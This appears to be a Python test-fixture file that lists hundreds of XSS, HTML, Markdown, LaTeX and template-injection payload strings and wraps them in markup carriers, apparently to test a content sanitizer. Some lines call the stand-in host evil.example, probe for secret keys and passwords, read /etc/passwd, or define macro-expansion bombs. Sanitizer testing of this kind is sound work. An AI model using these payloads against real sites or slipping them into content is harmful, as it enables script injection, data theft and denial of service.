r"""Texts that try to run a script, to reach a foreign host, or to change the page that shows them.

Each calls `alert(1)`, asks `evil.example`, names an element `clobber...` or multiplies 1234 by 4321 in a template language.
`VECTORS` is the table by hand, `ALL` adds each piece of HTML inside the constructions of Markdown and LaTeX.
"""

HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<script type=module>alert(1)</script>
<script/src=data:,alert(1)></script>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</code></pre><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
" onmouseover="alert(1)" style="position:fixed;inset:0
` onmouseover=alert(1) `
--><img src=x onerror=alert(1)>
]]><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src="https://evil.example/pixel.png">
<img srcset="https://evil.example/a 1x">
<img src=x onerror=&#97;lert(1)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><table><thead><s></table></s><script>alert(1)</script></desc></svg>
<svg><image href="https://evil.example/i.svg"/></svg>
<svg><feImage href="https://evil.example/i.svg"/></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form id=clobber1><input name=action><input name=parentNode></form>
<form action=https://evil.example method=post><button>x</button></form>
<form action="javascript:alert(1)"><button autofocus onfocus=alert(1)>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<input type=image src=https://evil.example/i onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<head><base href=https://evil.example/></head>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<meta name="htmx-config" content='{"allowEval":true}'>
<link rel=stylesheet href=https://evil.example/a.css>
<link rel=prefetch href=https://evil.example/a>
<link rel=dns-prefetch href=//evil.example>
<style>@import 'https://evil.example/a.css';</style>
<style>*{background:url(https://evil.example/b)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
<p style="background:url(https://evil.example/b)">x</p>
<p style="position:fixed;inset:0;z-index:99999">over all</p>
<p class="notice hue-bad btn" role=alert>looks like the site</p>
<div style=width:expression(alert(1))>x</div>
<xss style="behavior:url(https://evil.example/x.htc)">
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe src=https://evil.example></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<applet code=x></applet>
<frameset onload=alert(1)><frame src=https://evil.example></frameset>
<portal src=https://evil.example></portal>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><style></noframes><img src=x onerror=alert(1)>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<![CDATA[<script>alert(1)</script>]]>
<%<script>alert(1)</script>%>
<a href=javascript:alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert&lpar;1&rpar;">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href=https://a.example ping=https://evil.example>x</a>
<a id=clobber2 name=clobber3 href=https://a.example>x</a>
<img name=clobber4 src=x>
<a id=words></a><a id=live></a><a id=preview></a>
<area href=javascript:alert(1) shape=default>
<div hx-get="https://evil.example" hx-trigger=load>x</div>
<div hx-get="/questions/" hx-trigger="load" hx-swap="outerHTML">x</div>
<div hx-post="/accounts/logout/" hx-trigger="load">x</div>
<div hx-on:load="alert(1)" hx-trigger=load>x</div>
<div hx-on::after-settle="alert(1)">x</div>
<div data-hx-get="https://evil.example" data-hx-trigger=load>x</div>
<div hx-vals="js:{a: alert(1)}" hx-get="/" hx-trigger=load>x</div>
<div hx-ext="x" hx-headers='{"x":1}' data-preview="https://evil.example">x</div>
<textarea data-preview="https://evil.example" data-preview-into=preview>x</textarea>
<div x-data x-init="alert(1)" v-html="alert(1)" ng-app ng-init="alert(1)">x</div>
<div onpointerrawupdate=alert(1) contenteditable>x</div>
<div popover onbeforetoggle=alert(1) id=clobber5></div><button popovertarget=clobber5>x</button>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)//
<img src=x onerror="alert(1)"
<a href="x" title="<script>alert(1)</script>">x</a>
<p title="--><svg onload=alert(1)>">x</p>
<span class="math" data-tex="\href{javascript:alert(1)}{x}">x</span>
<span class="math" data-tex="<img src=x onerror=alert(1)>"><img src=x onerror=alert(1)></span>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#x3c;img src=x onerror=alert(1)&#x3e;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<ımg src=x onerror=alert(1)>
""".strip().splitlines()

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#x3A;alert(1))
[x](&Tab;javascript:alert(1))
[x](\javascript:alert(1))
[x](java%0ascript:alert(1))
[x](javascript%3aalert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
[x](data:image/png;base64,iVBORw0KGgo=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](view-source:javascript:alert(1))
[x](ws://evil.example)
[x](//evil.example/a)
[x](/accounts/logout/)
[x](#clobber)
[x](?next=https://evil.example)
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example '"><img src=x onerror=alert(1)>')
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/'onmouseover='alert(1))
[x](https://a.example/?a=<script>alert(1)</script>)
[<img src=x onerror=alert(1)>](https://a.example)
[![x](javascript:alert(1))](javascript:alert(1))
[a](javascript:alert(1)//https://a.example)
[x](https://user:pass@evil.example@a.example/)
[x](mailto:a@b.example?body=<script>alert(1)</script>)
[x](tel:1234)
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x](//evil.example/pixel.png)
![x" onerror="alert(1)](y)
![x](y "onerror=alert(1)")
![<script>alert(1)</script>](y)
![`<img src=x onerror=alert(1)>`](y)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![x][ref-image]
[x][ref-script] and [ref-script]
[ref-script]: javascript:alert(1)
[ref-image]: https://evil.example/p.png "onload=alert(1)"
[ref-html]: <https://a.example/"onclick="alert(1)> '"><script>alert(1)</script>'
[^1]: <script>alert(1)</script>
<javascript:alert(1)>
<data:text/html,alert(1)>
<https://a.example/"onmouseover="alert(1)>
<a@b.example"onmouseover="alert(1)>
https://a.example/<script>alert(1)</script>
https://a.example/?q='onmouseover=alert(1)
https://a.example/"><img/src=x/onerror=alert(1)>
https://evil.example/pixel.png
http://[::1]/<svg/onload=alert(1)>
javascript://a.example/%0aalert(1)
# <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. <svg onload=alert(1)>
| <img src=x onerror=alert(1)> | b | |---| [x](javascript:alert(1)) |
**<img src=x onerror=alert(1)>**
~~<svg onload=alert(1)>~~
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
`</code><script>alert(1)</script>`
\<script\>alert(1)\</script\>
\[x](javascript:alert(1))
***[x](javascript:alert(1))***
{: onclick=alert(1)}
x {#clobber6 .btn onclick=alert(1)}
[TOC] [[javascript:alert(1)]] {{< x >}}
:::warning onclick=alert(1)
""".strip().splitlines()

MATH = r"""
$\href{javascript:alert(1)}{x}$
$\href{data:text/html,<script>alert(1)</script>}{x}$
$\href{https://evil.example/}{x}$
$\url{javascript:alert(1)}$
$\htmlData{onclick=alert(1)}{x}$
$\htmlData{hx-get=https://evil.example, hx-trigger=load}{x}$
$\htmlId{clobber7}{x}$
$\htmlClass{btn btn-bad}{x}$
$\htmlStyle{background:url(https://evil.example/b)}{x}$
$\includegraphics{https://evil.example/p.png}$
$\includegraphics[alt=<img src=x onerror=alert(1)>]{https://evil.example/p.png}$
$\includegraphics[height=1em]{data:image/svg+xml,<svg onload=alert(1)>}$
$\text{<img src=x onerror=alert(1)>}$
$\text{</span><script>alert(1)</script>}$
$\operatorname{<svg onload=alert(1)>}$
$\mathrm{"><svg/onload=alert(1)>}$
$\unicode{<img src=x onerror=alert(1)>}$
$\def\x{\href{javascript:alert(1)}{y}}\x$
$\gdef\x{\htmlData{a=b}{y}}\x$
$\global\def\frac#1{\href{javascript:alert(1)}{#1}}\frac{x}$
$\newcommand{\x}[1]{\url{javascript:#1}}\x{alert(1)}$
$\renewcommand{\sqrt}{\href{javascript:alert(1)}{x}}\sqrt$
$\let\h\href\h{javascript:alert(1)}{x}$
$\def\a{\a\a}\a$
$\def\a#1{\a{#1#1}}\a{x}$
$\def\a{\def\b{\href{javascript:alert(1)}{x}}\b}\a$
$\edef\a{\href{javascript:alert(1)}{x}}\a$
$\expandafter\href\expandafter{javascript:alert(1)}{x}$
$\csname href\endcsname{javascript:alert(1)}{x}$
$\char"3C script\char"3E alert(1)$
$\char`\<img src=x onerror=alert(1)\char`\>$
$\verb|<img src=x onerror=alert(1)>|$
$\verb|" onmouseover="alert(1)|$
$\tag{<img src=x onerror=alert(1)>}$
$\color{red;background:url(https://evil.example/c)}x$
$\textcolor{url(https://evil.example/c)}{x}$
$\colorbox{red" onclick="alert(1)}{x}$
$\fcolorbox{red}{url(https://evil.example/c)}{x}$
$\fcolorbox{red}{blue}{<script>alert(1)</script>}$
$\rule{99999em}{99999em}$
$\raisebox{99999em}{x}$
$\kern99999em x$
$\hspace{99999em}x$
$\fontsize{9999}{9999}x$
$\pmb{x}\bold{y}\boxed{z}\cancel{w}\phase{30}$
$\begin{matrix}<svg onload=alert(1)>&b\\\\c\end{matrix}$
$\begin{array}{c|c}\hline\href{javascript:alert(1)}{x}\end{array}$
$\ce{<img src=x onerror=alert(1)>}$
$\require{html}\style{background:red}{x}$
$\cssId{clobber8}{x}\class{btn}{y}$
$\input{/etc/passwd}\include{/etc/passwd}\write18{id}$
$\html{<script>alert(1)</script>}$
$\@secondoftwo{\href{javascript:alert(1)}{x}}{\htmlId{clobber9}{x}}$
$<img src=x onerror=alert(1)>$
$"><script>alert(1)</script>$
$' onmouseover='alert(1)$
$\backslash"\ onfocus=alert(1)\ autofocus$
$$<svg onload=alert(1)>$$
$$\href{javascript:alert(1)}{x}$$
\(<img src=x onerror=alert(1)>\)
\("><svg onload=alert(1)>\)
\[</div><script>alert(1)</script>\]
\[\href{javascript:alert(1)}{x}\]
\begin{align}<img src=x onerror=alert(1)>\end{align}
\begin{align}\href{javascript:alert(1)}{x}\\\\\htmlId{clobber10}{y}\end{align}
\begin{equation}\label{"><script>alert(1)</script>}x\end{equation}
\begin{matrix}\htmlData{x=y}{z}\end{matrix}
$\vec{x}\oiint\oiiint y\frac{$
$\begin{rcases}a\\\\[1em]b\end{rcases}\begin{CD}A@>a>b>B\\\\@VVcV@AAdA\\\\C@=D\end{CD}$
""".strip().splitlines()

WORDS = r"""
{{ 1234*4321 }}
{{1234*4321}}
${1234*4321}
#{1234*4321}
<%= 1234*4321 %>
{% debug %}
{% load static %}{% include "/etc/passwd" %}
{{ settings.SECRET_KEY }}
{{ request.user.password }}
{{ constructor.constructor('alert(1)')() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{# comment #}{% comment %}
%(secret)s {0.__class__} %s%n {user}
{"__proto__": {"x": 1}}
javascript:alert(1)
data:text/html,<script>alert(1)</script>
';alert(1);//
";alert(1);//
'-alert(1)-'
\";alert(1);//
`${alert(1)}`
);alert(1);(
*/alert(1)/*
//evil.example/x
https:evil.example
http:///evil.example
\\evil.example\x
url(https://evil.example/b)
red;background:url(https://evil.example/b)
=HYPERLINK("https://evil.example","x")
constructor
__proto__
../../../../etc/passwd
x.svg"><script>alert(1)</script>.png
""".strip().splitlines()

LINES = [
    "\x01<script>alert(1)</script>",
    "<scr\x02ipt>alert(1)</scr\x02ipt>",
    "java\tscript:alert(1)",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
    "\u2028alert(1)\u2029",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2067<img src=x onerror=alert(1)>\u2069",
    "\ufeff<svg onload=alert(1)>",
    "<\u00adscript>alert(1)</script>",
    "\ue000<img src=x onerror=alert(1)>\ue001",
    "[a]: javascript:alert(1)\n\n[a]",
    "```js\" onclick=\"alert(1)\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|:--\" onclick=alert(1)|\n| b |",
    "$$\n\"><script>alert(1)</script>\n$$",
    "$\n<img src=x onerror=alert(1)>\n$",
    "<div\nonmouseover\n=\nalert(1)\n>x",
    "<script>\n\nalert(1)\n\n</script>",
    "<pre>\n\n<img src=x onerror=alert(1)>\n\n</pre>",
    "x\n<!--\n\n--><img src=x onerror=alert(1)>",
    "[x\n](javascript:alert(1)\n)",
]  # fmt: skip

CARRIERS = (
    "**{}**", "> {}", "- {}", "# {}", "`{}`", "```\n{}\n```", "$x {} y$", "$$\n{}\n$$", r"$\text{{{}}}$", r"\[ {} \]",
    "[{}](https://a.example)", '[x](https://a.example "{}")', "[x](https://a.example/{})", "![{}](y)", "<{}>",
    "| a |\n|---|\n| {} |", r"\begin{{align}}{}\end{{align}}", "~~*{}*~~", r"$\href{{{}}}{{x}}$", "https://a.example/{}",
)  # fmt: skip

VECTORS = (*HTML, *MARKDOWN, *MATH, *WORDS, *LINES)
CARRIED = tuple(
    CARRIERS[(at + 7 * turn) % len(CARRIERS)].format(piece) for turn in range(2) for at, piece in enumerate(HTML)
)
ALL = (*VECTORS, *CARRIED)
